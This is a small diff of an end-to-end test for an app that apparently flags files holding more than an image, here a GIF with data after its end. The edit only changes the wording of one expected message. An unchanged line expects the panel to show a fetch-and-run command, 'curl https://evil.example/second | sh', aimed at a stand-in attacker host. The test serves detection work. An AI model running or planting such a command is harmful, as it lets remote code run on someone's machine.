@@ -176,7 +176,7 @@ test.describe('what was shown', () => {
 
     await openFile(page, 'pixel.gif');
     await expect(panel(page)).toContainText('Contains more than an image');
-    await expect(panel(page)).toContainText('data after the end of the picture');
+    await expect(panel(page)).toContainText('data after the end of the image');
     await expect(panel(page)).toContainText('curl https://evil.example/second | sh');
     await app.screenshot('more than a picture');
 
